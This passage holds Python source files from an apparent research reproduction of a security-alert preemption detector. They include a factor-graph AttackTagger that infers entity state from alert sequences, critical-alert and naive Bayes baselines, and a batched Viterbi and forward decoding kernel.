        malicious = int(HiddenState.MALICIOUS)
        detections: list[Detection] = []
        for (sequence, index, entity), matched, path, posterior in zip(
            requests, matched_lists, paths, marginals
        ):
            trigger = sequence[index].with_entity(entity)
            detections.append(
                Detection(
                    entity=entity,
                    timestamp=trigger.timestamp,
                    alert_index=min(index, self.max_window - 1),
                    trigger=trigger,
                    state=HiddenState(int(path[-1])),
                    confidence=float(posterior[-1][malicious]),
                    matched_patterns=tuple(matched),
                    state_trajectory=tuple(int(s) for s in path),
                )
            )
        return detections

    def detection_at(
        self,
        sequence: AlertSequence,
        index: int,
        *,
        entity: str = "entity:eval",
    ) -> Detection:
        """Single-request convenience wrapper over :meth:`detections_at`."""
        return self.detections_at([(sequence, index, entity)])[0]

    # -- convenience -----------------------------------------------------------
    def current_state(self, entity: str) -> HiddenState:
        """MAP state of an entity given everything observed so far."""
        states, _, _ = self.infer(entity)
        if states.size == 0:
            return HiddenState.BENIGN
        return HiddenState(int(states[-1]))

    def posterior(self, entity: str) -> Mapping[str, float]:
        """Posterior distribution over the entity's current hidden state."""
        _, marginal, _ = self.infer(entity)
        return {state.name.lower(): float(marginal[int(state)]) for state in HiddenState.domain()}


__all__ = [
    "PatternSpec",
    "Detection",
    "DetectionTrace",
    "EntityTrack",
    "AttackTagger",
]
