"""Streaming factor-graph detector (the preemption model).

:class:`AttackTagger` is the detector the paper deploys on the testbed.
It consumes the filtered, normalised alert stream produced by the
telemetry pipeline, maintains one alert sequence per monitored entity
(user account or host, following the attribution rules of §III.B), and
after every alert re-infers the entity's hidden state trajectory with
the chain factor graph built from:

* observation factors (``log P(alert | state)``),
* transition factors (state persistence),
* pattern factors for the S1..S43 catalogue of recurring attack
  sequences mined from past incidents.

The entity is *detected* the first time the maximum-a-posteriori state
trajectory ends in the malicious state with sufficient posterior
confidence.  If that happens before the first damage-stage alert, the
attack was *preempted* (see :mod:`repro.core.preemption`).
"""

from __future__ import annotations

import dataclasses
from typing import Dict, Iterable, List, Mapping, Optional, Sequence

import numpy as np

from .alerts import Alert, AlertVocabulary, DEFAULT_VOCABULARY
from .factor_graph import chain_map_decode, chain_marginals
from .factors import FactorParameters, default_parameters, observation_log_for_sequence
from .sequences import AlertSequence, matched_prefix_length
from .states import NUM_STATES, HiddenState


@dataclasses.dataclass(frozen=True)
class PatternSpec:
    """Minimal view of an attack pattern the detector needs.

    ``repro.incidents.patterns.AttackPattern`` provides ``name`` and
    ``names`` attributes and can be passed directly; this dataclass
    exists so the core package does not depend on the incidents
    package.
    """

    name: str
    names: tuple[str, ...]


@dataclasses.dataclass(frozen=True)
class Detection:
    """A detection decision emitted by :class:`AttackTagger`."""

    entity: str
    timestamp: float
    alert_index: int
    trigger: Alert
    state: HiddenState
    confidence: float
    matched_patterns: tuple[str, ...] = ()
    state_trajectory: tuple[int, ...] = ()

    @property
    def is_malicious(self) -> bool:
        """Whether the decision tagged the entity as malicious."""
        return self.state is HiddenState.MALICIOUS


@dataclasses.dataclass
class EntityTrack:
    """Per-entity detector state: the observed alerts and cached decode."""

    entity: str
    alerts: List[Alert] = dataclasses.field(default_factory=list)
    detected: Optional[Detection] = None

    @property
    def sequence(self) -> AlertSequence:
        """Current alert sequence for the entity."""
        return AlertSequence(tuple(self.alerts))


class AttackTagger:
    """Streaming per-entity preemption detector.

    Parameters
    ----------
    parameters:
        Learned factor parameters; :func:`repro.core.factors
        .default_parameters` provides an untrained prior-only model.
    patterns:
        Catalogue of known attack patterns (objects with ``name`` and
        ``names``).  Only patterns with a positive weight in
        ``parameters.pattern_weights`` (or, if empty, all patterns with
        ``default_pattern_weight``) contribute evidence.
    detection_threshold:
        Minimum posterior probability of the malicious state at the
        final step required to emit a detection.
    max_window:
        Maximum number of most-recent alerts kept per entity.  The
        paper's Insight 2 bounds the useful sequence length; a window
        also bounds per-alert inference cost in the live pipeline.
    default_pattern_weight:
        Weight used for catalogue patterns when the trained parameters
        carry no pattern weights (the untrained/prior-only deployment).
    """

    def __init__(
        self,
        parameters: Optional[FactorParameters] = None,
        patterns: Sequence = (),
        *,
        detection_threshold: float = 0.5,
        max_window: int = 64,
        default_pattern_weight: float = 2.0,
        vocabulary: Optional[AlertVocabulary] = None,
    ) -> None:
        self.vocabulary = vocabulary or (parameters.vocabulary if parameters else DEFAULT_VOCABULARY)
        self.parameters = parameters or default_parameters(self.vocabulary)
        self.patterns: list[PatternSpec] = [
            PatternSpec(name=p.name, names=tuple(p.names)) for p in patterns
        ]
        if detection_threshold <= 0.0 or detection_threshold >= 1.0:
            raise ValueError("detection_threshold must be in (0, 1)")
        if max_window < 2:
            raise ValueError("max_window must be at least 2")
        self.detection_threshold = float(detection_threshold)
        self.max_window = int(max_window)
        self.default_pattern_weight = float(default_pattern_weight)
        self._tracks: Dict[str, EntityTrack] = {}
        self._detections: List[Detection] = []

    # -- public state ------------------------------------------------------
    @property
    def detections(self) -> list[Detection]:
        """All detections emitted so far, in order."""
        return list(self._detections)

    def track(self, entity: str) -> EntityTrack:
        """The per-entity track (created on first use)."""
        if entity not in self._tracks:
            self._tracks[entity] = EntityTrack(entity=entity)
        return self._tracks[entity]

    def entities(self) -> list[str]:
        """All entities observed so far."""
        return list(self._tracks)

    def reset(self) -> None:
        """Forget all per-entity state and past detections."""
        self._tracks.clear()
        self._detections.clear()

    def reset_entity(self, entity: str) -> None:
        """Forget one entity (e.g. after remediation re-images the host)."""
        self._tracks.pop(entity, None)

    # -- core inference -----------------------------------------------------
    def _pattern_weight(self, name: str) -> float:
        if self.parameters.pattern_weights:
            return self.parameters.pattern_weights.get(name, 0.0)
        return self.default_pattern_weight

    def _build_unary(self, names: Sequence[str]) -> tuple[np.ndarray, list[str]]:
        """Per-step log potentials including pattern-factor bonuses.

        The chain is kept exact by folding each (partially) matched
        pattern's bonus into the malicious-state unary potential of the
        step at which the match currently ends.
        """
        unary = observation_log_for_sequence(self.parameters, names).copy()
        if unary.shape[0] == 0:
            return unary, []
        unary[0] += self.parameters.initial_log
        matched_names: list[str] = []
        for pattern in self.patterns:
            weight = self._pattern_weight(pattern.name)
            if weight <= 0.0:
                continue
            matched = matched_prefix_length(pattern.names, names)
            if matched == 0:
                continue
            bonus = self.parameters.pattern_bonus(matched, len(pattern.names), weight)
            if bonus <= 0.0:
                continue
            # The bonus lands on the step where the matched prefix ends.
            end_index = self._prefix_end_index(pattern.names[:matched], names)
            unary[end_index, int(HiddenState.MALICIOUS)] += bonus
            if matched == len(pattern.names):
                matched_names.append(pattern.name)
        return unary, matched_names

    @staticmethod
    def _prefix_end_index(prefix: Sequence[str], names: Sequence[str]) -> int:
        """Index in ``names`` where the greedy match of ``prefix`` ends."""
        position = -1
        start = 0
        for symbol in prefix:
            for idx in range(start, len(names)):
                if names[idx] == symbol:
                    position = idx
                    start = idx + 1
                    break
        return max(0, position)

    def infer(self, entity: str) -> tuple[np.ndarray, np.ndarray, list[str]]:
        """Decode the current trajectory for an entity.

        Returns ``(map_states, final_marginal, matched_pattern_names)``
        where ``map_states`` is the Viterbi state per alert and
        ``final_marginal`` is the posterior over the entity's current
        state.
        """
        track = self.track(entity)
        names = [a.name for a in track.alerts]
        if not names:
            prior = np.exp(self.parameters.initial_log)
            return np.zeros(0, dtype=np.int64), prior / prior.sum(), []
        unary, matched = self._build_unary(names)
        states = chain_map_decode(unary, self.parameters.transition_log)
        marginals = chain_marginals(unary, self.parameters.transition_log)
        return states, marginals[-1], matched

    # -- streaming API ------------------------------------------------------
    def observe(self, alert: Alert) -> Optional[Detection]:
        """Consume one alert; return a :class:`Detection` if one fires.

        A detection is emitted at most once per entity (the first time
        the entity crosses the threshold); subsequent alerts for an
        already-detected entity are still recorded so the response path
        can keep building the incident timeline.
        """
        track = self.track(alert.entity)
        track.alerts.append(alert)
        if len(track.alerts) > self.max_window:
            del track.alerts[: len(track.alerts) - self.max_window]
        if track.detected is not None:
            return None
        states, final_marginal, matched = self.infer(alert.entity)
        malicious_probability = float(final_marginal[int(HiddenState.MALICIOUS)])
        final_state = HiddenState(int(states[-1])) if states.size else HiddenState.BENIGN
        if final_state is HiddenState.MALICIOUS and malicious_probability >= self.detection_threshold:
            detection = Detection(
                entity=alert.entity,
                timestamp=alert.timestamp,
                alert_index=len(track.alerts) - 1,
                trigger=alert,
                state=final_state,
                confidence=malicious_probability,
                matched_patterns=tuple(matched),
                state_trajectory=tuple(int(s) for s in states),
            )
            track.detected = detection
            self._detections.append(detection)
            return detection
        return None

    def observe_many(self, alerts: Iterable[Alert]) -> list[Detection]:
        """Consume a batch of alerts, returning any detections emitted."""
        detections: list[Detection] = []
        for alert in alerts:
            detection = self.observe(alert)
            if detection is not None:
                detections.append(detection)
        return detections

    def run_sequence(self, sequence: AlertSequence, entity: Optional[str] = None) -> Optional[Detection]:
        """Run a full stored sequence through a fresh per-entity track.

        Offline evaluation helper: the sequence's alerts are re-keyed to
        a dedicated entity so separate evaluations do not interfere.
        """
        entity = entity or (sequence[0].entity if len(sequence) else "entity:eval")
        self.reset_entity(entity)
        detection: Optional[Detection] = None
        for alert in sequence:
            result = self.observe(alert.with_entity(entity))
            if result is not None and detection is None:
                detection = result
        return detection

    # -- convenience -----------------------------------------------------------
    def current_state(self, entity: str) -> HiddenState:
        """MAP state of an entity given everything observed so far."""
        states, _, _ = self.infer(entity)
        if states.size == 0:
            return HiddenState.BENIGN
        return HiddenState(int(states[-1]))

    def posterior(self, entity: str) -> Mapping[str, float]:
        """Posterior distribution over the entity's current hidden state."""
        _, marginal, _ = self.infer(entity)
        return {state.name.lower(): float(marginal[int(state)]) for state in HiddenState.domain()}


__all__ = [
    "PatternSpec",
    "Detection",
    "EntityTrack",
    "AttackTagger",
]
