"""Additional baseline detectors used in the model-comparison benchmarks.

Two baselines bracket the factor-graph model:

* :class:`CriticalAlertDetector` -- fires only on the 19 critical alert
  types.  This is the paper's Insight-4 strawman: it is precise but by
  construction can never preempt an attack, because critical alerts
  appear only after system integrity is already lost.
* :class:`NaiveBayesDetector` -- treats the alerts of an entity as a
  bag (no ordering, no transitions, no patterns) and thresholds the
  posterior odds of "attack" vs. "benign".  This isolates the value of
  sequence information: it shares the observation statistics with the
  factor-graph model but none of its structure.

Both expose the same streaming ``observe`` / ``run_sequence`` API as
:class:`repro.core.attack_tagger.AttackTagger` so the evaluation
harness can treat every model uniformly.
"""

from __future__ import annotations

import dataclasses
import math
import sys
from typing import Dict, Iterable, List, Optional, Sequence

import numpy as np

from .alerts import Alert, AlertVocabulary, DEFAULT_VOCABULARY
from .attack_tagger import Detection
from .sequences import AlertSequence
from .states import HiddenState
from .training import LabeledSequence


class CriticalAlertDetector:
    """Detector that tags an entity malicious on its first critical alert."""

    def __init__(self, vocabulary: Optional[AlertVocabulary] = None) -> None:
        self.vocabulary = vocabulary or DEFAULT_VOCABULARY
        self._critical = set(self.vocabulary.critical_names())
        self._history: Dict[str, List[Alert]] = {}
        self._detections: List[Detection] = []
        self._detected: set[str] = set()

    @property
    def detections(self) -> list[Detection]:
        """All detections emitted so far."""
        return list(self._detections)

    def reset(self) -> None:
        """Forget all per-entity state."""
        self._history.clear()
        self._detections.clear()
        self._detected.clear()

    def reset_entity(self, entity: str) -> None:
        """Forget one entity."""
        self._history.pop(entity, None)
        self._detected.discard(entity)

    def __getstate__(self) -> dict:
        """Canonical pickle: set-valued state as sorted tuples.

        A raw ``set`` pickles in iteration order, which depends on the
        per-process hash seed and insertion history — checkpoint →
        restore → checkpoint would not be byte-identical.
        """
        state = self.__dict__.copy()
        state["_critical"] = tuple(sorted(self._critical))
        state["_detected"] = tuple(sorted(self._detected))
        return state

    def __setstate__(self, state: dict) -> None:
        # Intern keys exactly as pickle's default BUILD path does, so a
        # restored instance re-pickles to the same bytes (memo hits on
        # the shared attribute-name strings).
        self.__dict__.update((sys.intern(k), v) for k, v in state.items())
        self._critical = set(state["_critical"])
        self._detected = set(state["_detected"])

    def observe(self, alert: Alert) -> Optional[Detection]:
        """Consume one alert; detect iff it is a critical alert."""
        history = self._history.setdefault(alert.entity, [])
        history.append(alert)
        if alert.entity in self._detected or alert.name not in self._critical:
            return None
        detection = Detection(
            entity=alert.entity,
            timestamp=alert.timestamp,
            alert_index=len(history) - 1,
            trigger=alert,
            state=HiddenState.MALICIOUS,
            confidence=1.0,
            matched_patterns=(alert.name,),
        )
        self._detected.add(alert.entity)
        self._detections.append(detection)
        return detection

    def observe_many(self, alerts: Iterable[Alert]) -> list[Detection]:
        """Consume a batch of alerts."""
        out = []
        for alert in alerts:
            d = self.observe(alert)
            if d is not None:
                out.append(d)
        return out

    def observe_batch(self, alerts: Iterable[Alert]) -> list[Detection]:
        """Batch stage entry point of the :class:`repro.core.detector.Detector` protocol."""
        return self.observe_many(alerts)

    def run_sequence(self, sequence: AlertSequence, entity: Optional[str] = None) -> Optional[Detection]:
        """Offline helper mirroring :meth:`AttackTagger.run_sequence`."""
        entity = entity or (sequence[0].entity if len(sequence) else "entity:eval")
        self.reset_entity(entity)
        detection: Optional[Detection] = None
        for alert in sequence:
            result = self.observe(alert.with_entity(entity))
            if result is not None and detection is None:
                detection = result
        return detection


@dataclasses.dataclass
class NaiveBayesParameters:
    """Per-alert-type log-likelihood ratios plus a prior log-odds."""

    vocabulary: AlertVocabulary
    log_likelihood_ratio: np.ndarray
    prior_log_odds: float

    def score(self, names: Sequence[str]) -> float:
        """Cumulative log-odds of "attack" for a bag of alert names."""
        total = self.prior_log_odds
        for name in names:
            if name in self.vocabulary:
                total += float(self.log_likelihood_ratio[self.vocabulary.index_of(name)])
        return total


class NaiveBayesDetector:
    """Bag-of-alerts baseline sharing the evaluation API of AttackTagger."""

    def __init__(
        self,
        parameters: Optional[NaiveBayesParameters] = None,
        *,
        vocabulary: Optional[AlertVocabulary] = None,
        detection_log_odds: float = 2.0,
        smoothing: float = 0.5,
    ) -> None:
        self.vocabulary = vocabulary or (parameters.vocabulary if parameters else DEFAULT_VOCABULARY)
        self.parameters = parameters
        self.detection_log_odds = float(detection_log_odds)
        self.smoothing = float(smoothing)
        self._history: Dict[str, List[Alert]] = {}
        self._detections: List[Detection] = []
        self._detected: set[str] = set()

    # -- training ------------------------------------------------------------
    def fit(self, examples: Iterable[LabeledSequence]) -> NaiveBayesParameters:
        """Estimate per-alert likelihood ratios from labelled sequences."""
        vocab = self.vocabulary
        attack_counts = np.full(len(vocab), self.smoothing, dtype=np.float64)
        benign_counts = np.full(len(vocab), self.smoothing, dtype=np.float64)
        num_attack = 0
        num_benign = 0
        for example in examples:
            target = attack_counts if example.is_attack else benign_counts
            if example.is_attack:
                num_attack += 1
            else:
                num_benign += 1
            for name in example.sequence.names:
                if name in vocab:
                    target[vocab.index_of(name)] += 1.0
        attack_probability = attack_counts / attack_counts.sum()
        benign_probability = benign_counts / benign_counts.sum()
        ratio = np.log(attack_probability) - np.log(benign_probability)
        prior = math.log((num_attack + 1.0) / (num_benign + 1.0))
        self.parameters = NaiveBayesParameters(
            vocabulary=vocab, log_likelihood_ratio=ratio, prior_log_odds=prior
        )
        return self.parameters

    # -- streaming API ----------------------------------------------------------
    @property
    def detections(self) -> list[Detection]:
        """All detections emitted so far."""
        return list(self._detections)

    def reset(self) -> None:
        """Forget all per-entity state."""
        self._history.clear()
        self._detections.clear()
        self._detected.clear()

    def reset_entity(self, entity: str) -> None:
        """Forget one entity."""
        self._history.pop(entity, None)
        self._detected.discard(entity)

    def __getstate__(self) -> dict:
        """Canonical pickle: set-valued state as a sorted tuple (see
        :meth:`CriticalAlertDetector.__getstate__`)."""
        state = self.__dict__.copy()
        state["_detected"] = tuple(sorted(self._detected))
        return state

    def __setstate__(self, state: dict) -> None:
        # Key interning: see CriticalAlertDetector.__setstate__.
        self.__dict__.update((sys.intern(k), v) for k, v in state.items())
        self._detected = set(state["_detected"])

    def observe(self, alert: Alert) -> Optional[Detection]:
        """Consume one alert; detect when the cumulative log-odds cross the threshold."""
        if self.parameters is None:
            raise RuntimeError("NaiveBayesDetector.observe called before fit()")
        history = self._history.setdefault(alert.entity, [])
        history.append(alert)
        if alert.entity in self._detected:
            return None
        score = self.parameters.score([a.name for a in history])
        if score < self.detection_log_odds:
            return None
        confidence = 1.0 / (1.0 + math.exp(-score))
        detection = Detection(
            entity=alert.entity,
            timestamp=alert.timestamp,
            alert_index=len(history) - 1,
            trigger=alert,
            state=HiddenState.MALICIOUS,
            confidence=confidence,
        )
        self._detected.add(alert.entity)
        self._detections.append(detection)
        return detection

    def observe_many(self, alerts: Iterable[Alert]) -> list[Detection]:
        """Consume a batch of alerts."""
        out = []
        for alert in alerts:
            d = self.observe(alert)
            if d is not None:
                out.append(d)
        return out

    def observe_batch(self, alerts: Iterable[Alert]) -> list[Detection]:
        """Batch stage entry point of the :class:`repro.core.detector.Detector` protocol."""
        return self.observe_many(alerts)

    def run_sequence(self, sequence: AlertSequence, entity: Optional[str] = None) -> Optional[Detection]:
        """Offline helper mirroring :meth:`AttackTagger.run_sequence`."""
        entity = entity or (sequence[0].entity if len(sequence) else "entity:eval")
        self.reset_entity(entity)
        detection: Optional[Detection] = None
        for alert in sequence:
            result = self.observe(alert.with_entity(entity))
            if result is not None and detection is None:
                detection = result
        return detection


__all__ = [
    "CriticalAlertDetector",
    "NaiveBayesParameters",
    "NaiveBayesDetector",
]
