"""Vectorised cross-entity semiring decode kernel (``engine="batched"``).

The per-alert engines advance one entity at a time: every K×K
``transition ⊗ unary`` step-matrix composition, every Viterbi/(max, +)
and forward/(logsumexp, +) head advance, and every guard-banded
``may_fire`` pre-filter is its own small-matrix numpy call, so a
sub-batch touching N entities pays N× the interpreter/dispatch overhead
for arithmetic that is identical in shape across entities.

:class:`BatchedDecodeKernel` runs the same per-entity state machine —
the *identical* :class:`~repro.core.streaming.StreamingDecoder` and
:class:`~repro.core.sliding_window.SlidingProductWindow` objects, with
the identical amortised-O(K³) eviction, bonus-relocation patching, and
``may_fire`` pre-filter semantics — but executes the numerics for all
entities touched by a sub-batch as stacked tensor operations:

* **gather** — each entity's operands (previous head vectors, back-stack
  prefix aggregates, effective unary rows) are copied into contiguous
  ``(N, K)`` / ``(N, K, K)`` stacks;
* **stacked update** — one broadcast add builds all N step matrices
  (``transition[None] + unary[:, None, :]``), one ``(N, K, K, K)``
  reduce per semiring folds them into the back-prefix aggregates, and
  one ``(N, K, K) x (N, K)`` reduce per semiring advances the filling
  -phase Viterbi/forward heads — no Python loop over entities in the
  arithmetic;
* **scatter** — results are written back into each decoder's buffers /
  window stacks (as views of the freshly allocated per-round arrays, so
  nothing aliases reusable scratch), after which the ordinary
  per-entity structures carry on.

Entities with heterogeneous pattern bonuses need no branching in the
stacked arithmetic: their effective unary rows are materialised into
the stack first (base row gather + scalar bonus fix-ups, exactly the
additions :meth:`StreamingDecoder._refresh_unary` performs).  Ragged
sub-batches — the same entity appearing multiple times — are layered
into sequential *rounds*: occurrence r of every entity lands in round
r, so within a round all entities are distinct and independent.

Every stacked operation replays the scalar engine's float operations
bit-for-bit (elementwise adds/exp/log are elementwise; max/argmax are
order-independent; at K = 3 numpy's pairwise summation degenerates to
the same left-to-right sum), so ``engine="batched"`` is *bit-identical*
to ``engine="streaming"`` — detections, confidences, trajectories, and
checkpointed state.  The differential oracle replays the full
engine × shards × backend × driver matrix to prove it.

The kernel object itself is pure scratch: it holds no decode state, is
dropped on pickling, and is recreated lazily after restore.
"""

from __future__ import annotations

import time
from typing import Dict, List, Optional, Sequence, Tuple

import numpy as np

from .factor_graph import (
    _logsumexp,
    logsumexp_matmul_batch,
    logsumexp_vecmat_batch,
    maxplus_matmul_batch,
    maxplus_vecmat_batch,
)
from .states import NUM_STATES
from .streaming import _DECISION_GUARD, _GUARD_SLACK, _MALICIOUS

_K = NUM_STATES

# Rounds smaller than this are not worth the gather/scatter round-trip;
# they run through the tagger's per-alert path (which is also what makes
# the single-entity case match streaming throughput trivially).
_MIN_BATCH = 4

# Stack segments shorter than this refold with the scalar helpers: the
# doubling scan's per-level dispatch overhead only pays off past it.
_MIN_SCAN = 8


class _ScratchArena:
    """Grow-only pool of reusable stacked work buffers, keyed by role.

    Buffers are sized to the largest round seen (doubling growth) and
    sliced per use.  Only *true temporaries* live here: anything a
    decoder or window retains (step matrices, prefix aggregates) is
    allocated fresh each round, because the structures keep views of
    those arrays alive across rounds.
    """

    __slots__ = ("_buffers",)

    def __init__(self) -> None:
        self._buffers: Dict[str, np.ndarray] = {}

    def rows(
        self, key: str, count: int, tail: Tuple[int, ...], dtype=np.float64
    ) -> np.ndarray:
        buffer = self._buffers.get(key)
        if buffer is None or buffer.shape[0] < count:
            capacity = count if buffer is None else max(count, 2 * buffer.shape[0])
            buffer = np.empty((capacity,) + tail, dtype=dtype)
            self._buffers[key] = buffer
        return buffer[:count]


class BatchedDecodeKernel:
    """Stacked sub-batch executor bound to one :class:`AttackTagger`."""

    __slots__ = ("_tagger", "_scratch")

    def __init__(self, tagger) -> None:
        self._tagger = tagger
        self._scratch = _ScratchArena()

    # -- entry point --------------------------------------------------------
    def observe_rounds(self, alerts: Sequence) -> List[Tuple[int, object]]:
        """Advance the tagger through one sub-batch of alerts.

        Returns ``(position, detection)`` pairs sorted by sub-batch
        position.  Per-entity state afterwards is bit-identical to
        feeding the same alerts through ``observe`` one at a time.
        """
        tagger = self._tagger
        started = time.perf_counter()
        # Layer ragged sub-batches into rounds of distinct entities:
        # occurrence r of an entity goes to round r, preserving each
        # entity's own alert order across rounds.
        rounds: List[List[Tuple[int, object]]] = []
        occurrence: Dict[str, int] = {}
        for position, alert in enumerate(alerts):
            r = occurrence.get(alert.entity, 0)
            occurrence[alert.entity] = r + 1
            if r == len(rounds):
                rounds.append([])
            rounds[r].append((position, alert))
        hits: List[Tuple[int, object]] = []
        if not rounds or len(rounds[0]) < _MIN_BATCH:
            # Round 0 holds every distinct entity, so it is the largest
            # round; when even it is below the stacking threshold every
            # round would take the scalar fallback — skip the layering
            # entirely and walk the sub-batch in stream order (already
            # sorted, identical semantics).
            for position, alert in enumerate(alerts):
                detection = tagger._observe_impl(alert)
                if detection is not None:
                    hits.append((position, detection))
        else:
            for round_items in rounds:
                hits.extend(self._observe_round(round_items))
            # Rounds emit per-entity in layer order; restore stream order.
            hits.sort(key=lambda item: item[0])
        tagger.kernel_seconds += time.perf_counter() - started
        return hits

    # -- one round of distinct entities -------------------------------------
    def _observe_round(self, items: List[Tuple[int, object]]) -> List[Tuple[int, object]]:
        tagger = self._tagger
        if len(items) < _MIN_BATCH:
            return [
                (position, detection)
                for position, alert in items
                if (detection := tagger._observe_impl(alert)) is not None
            ]
        max_window = tagger.max_window
        pairwise = tagger.parameters.transition_log
        # Entries: (position, alert, track, decoder).
        fill_simple: List[Tuple[tuple, int]] = []
        windowed: List[Tuple[tuple, int, bool]] = []
        decide_fill: List[tuple] = []
        decide_windowed: List[tuple] = []
        for position, alert in items:
            track = tagger.track(alert.entity)
            if track.detected is not None:
                # Already-detected fast path: timeline only, no inference.
                track.alerts.append(alert)
                tagger._trim_track(track)
                track.decoder = None
                continue
            decoder = tagger._decoder_for(track)
            sliding = len(track.alerts) >= max_window
            track.alerts.append(alert)
            tagger._trim_track(track)
            step, dirty, invalid_from = decoder.append_plan(alert.name)
            entry = (position, alert, track, decoder)
            if decoder.windowed:
                if len(dirty) == 1:
                    # dirty == {step}: the common case the stacked
                    # window push handles.
                    windowed.append((entry, step, sliding))
                elif self._patch_dirty(decoder, dirty, skip=step):
                    # Bonus relocation touched older queued steps:
                    # partial-replace patching with tree-scanned
                    # refolds, then the stacked push as usual.
                    windowed.append((entry, step, sliding))
                else:
                    # Defensive fallback, as in _apply_dirty_to_window:
                    # exact re-aggregation (covers the appended step).
                    decoder._refresh_unary(step)
                    decoder._rebuild_window_aggregates()
                    if sliding:
                        decoder.evict_front()
                    decide_windowed.append(entry)
            elif sliding:
                # Filling → windowed transition (first eviction builds
                # the two-stack aggregates): once per entity lifetime.
                decoder._complete_append(step, dirty, invalid_from)
                decoder.evict_front()
                decide_windowed.append(entry)
            elif invalid_from == step and step > 0:
                fill_simple.append((entry, step))
                decide_fill.append(entry)
            else:
                # step == 0, or a bonus relocation invalidated history.
                decoder._complete_append(step, dirty, invalid_from)
                decide_fill.append(entry)
        if fill_simple:
            self._advance_fill(fill_simple, pairwise)
        if windowed:
            self._advance_windowed(windowed, pairwise)
            decide_windowed.extend(entry for entry, _, _ in windowed)
        hits: List[Tuple[int, object]] = []
        if decide_fill:
            hits.extend(self._decide_fill(decide_fill))
        if decide_windowed:
            hits.extend(self._decide_windowed(decide_windowed))
        return hits

    # -- stacked unary materialisation --------------------------------------
    def _materialise_unary(
        self, rows: np.ndarray, i: int, decoder, step: int
    ) -> None:
        """Build one effective unary row into ``rows[i]`` and scatter it.

        Replays :meth:`StreamingDecoder._refresh_unary` for a non-head
        step: base-row copy plus catalogue-ordered scalar bonus adds on
        the malicious entry.
        """
        rows[i] = decoder._base[step]
        bonuses = decoder._bonus_at.get(step)
        if bonuses:
            value = rows[i, _MALICIOUS]
            for bonus in bonuses.values():
                value = value + bonus
            rows[i, _MALICIOUS] = value
        decoder._unary[step] = rows[i]

    # -- filling phase: stacked forward/Viterbi extension --------------------
    def _advance_fill(
        self, entries: List[Tuple[tuple, int]], pairwise: np.ndarray
    ) -> None:
        """One stacked Viterbi + forward step for window-filling entities.

        Replays one iteration of ``StreamingDecoder._recompute_forward``
        for all N entities at once (the entities here appended at
        ``step > 0`` with no history invalidation, so exactly one new
        step extends each recursion).
        """
        scratch = self._scratch
        n = len(entries)
        unary_t = scratch.rows("fill_unary", n, (_K,))
        prev_score = scratch.rows("fill_prev_score", n, (_K,))
        prev_alpha = scratch.rows("fill_prev_alpha", n, (_K,))
        for i, ((_, _, _, decoder), step) in enumerate(entries):
            self._materialise_unary(unary_t, i, decoder, step)
            prev_score[i] = decoder._score[step - 1]
            prev_alpha[i] = decoder._alpha[step - 1]
        # Viterbi: candidate[n, a, b] = score[n, a] + pairwise[a, b].
        candidate = scratch.rows("fill_candidate", n, (_K, _K))
        np.add(prev_score[:, :, None], pairwise[None, :, :], out=candidate)
        backpointers = np.argmax(candidate, axis=1)
        rows = np.arange(n)[:, None]
        cols = np.arange(_K)[None, :]
        new_score = candidate[rows, backpointers, cols] + unary_t
        # Forward: alpha' = normalise(lse_a(alpha[a] + pairwise[a, :]) + unary).
        prev = scratch.rows("fill_prev", n, (_K, _K))
        np.add(prev_alpha[:, :, None], pairwise[None, :, :], out=prev)
        message = _logsumexp(prev, axis=1) + unary_t
        new_alpha = message - _logsumexp(message, axis=1, keepdims=True)
        for i, ((_, _, _, decoder), step) in enumerate(entries):
            decoder._score[step] = new_score[i]
            decoder._alpha[step] = new_alpha[i]
            decoder._backpointers[step] = backpointers[i]

    # -- windowed phase: stacked push + eviction -----------------------------
    def _advance_windowed(
        self, windowed: List[Tuple[tuple, int, bool]], pairwise: np.ndarray
    ) -> None:
        """Stacked step-matrix build + back-prefix fold, then eviction.

        The push must precede the eviction (matching the scalar order:
        ``append`` then ``evict_front``) because a flip triggered by the
        eviction folds the freshly pushed matrix into the suffix
        products.
        """
        scratch = self._scratch
        n = len(windowed)
        unary_t = scratch.rows("wind_unary", n, (_K,))
        for i, ((_, _, _, decoder), step, _) in enumerate(windowed):
            self._materialise_unary(unary_t, i, decoder, step)
        # All N step matrices in one broadcast add.  Freshly allocated:
        # the windows retain views of this array across rounds.
        matrices = pairwise[None, :, :] + unary_t[:, None, :]
        empty_back: List[int] = []
        nonempty_back: List[int] = []
        for i, ((_, _, _, decoder), _, _) in enumerate(windowed):
            if decoder._window._back_indices:
                nonempty_back.append(i)
            else:
                empty_back.append(i)
        for i in empty_back:
            (_, _, _, decoder), step, _ = windowed[i]
            matrix = matrices[i]
            # Same object in the matrix and both aggregate slots, as
            # push() does on an empty back stack.
            decoder._window.push_aggregated(step, matrix, matrix, matrix)
        if nonempty_back:
            m = len(nonempty_back)
            prev_max = scratch.rows("wind_prev_max", m, (_K, _K))
            prev_lse = scratch.rows("wind_prev_lse", m, (_K, _K))
            step_stack = scratch.rows("wind_step", m, (_K, _K))
            for j, i in enumerate(nonempty_back):
                window = windowed[i][0][3]._window
                prev_max[j] = window._back_max[-1]
                prev_lse[j] = window._back_lse[-1]
                step_stack[j] = matrices[i]
            stacked = scratch.rows("wind_stacked", m, (_K, _K, _K))
            # Retained by the window stacks: fresh allocations.
            new_max = maxplus_matmul_batch(
                prev_max, step_stack, stacked_out=stacked, out=np.empty((m, _K, _K))
            )
            new_lse = logsumexp_matmul_batch(
                prev_lse, step_stack, stacked_out=stacked, out=np.empty((m, _K, _K))
            )
            for j, i in enumerate(nonempty_back):
                (_, _, _, decoder), step, _ = windowed[i]
                decoder._window.push_aggregated(
                    step, matrices[i], new_max[j], new_lse[j]
                )
        # Eviction: per-entity bookkeeping (amortised pop/flip, cursor
        # rescans), with the new head rows refreshed as one stack below.
        evicted: List[tuple] = []
        for (entry, _, sliding) in windowed:
            if not sliding:
                continue
            decoder = entry[3]
            self._flip_batched(decoder._window)
            transition, dirty = decoder.evict_plan()
            evicted.append((decoder, dirty))
        if evicted:
            heads = scratch.rows("wind_heads", len(evicted), (_K,))
            initial_log = self._tagger.parameters.initial_log
            for i, (decoder, _) in enumerate(evicted):
                heads[i] = decoder._base[decoder._start]
            heads += initial_log[None, :]
            for i, (decoder, dirty) in enumerate(evicted):
                start = decoder._start
                bonuses = decoder._bonus_at.get(start)
                if bonuses:
                    value = heads[i, _MALICIOUS]
                    for bonus in bonuses.values():
                        value = value + bonus
                    heads[i, _MALICIOUS] = value
                decoder._unary[start] = heads[i]
                if dirty and not self._patch_dirty(decoder, dirty):
                    decoder._rebuild_window_aggregates()

    # -- tree-structured flip ------------------------------------------------
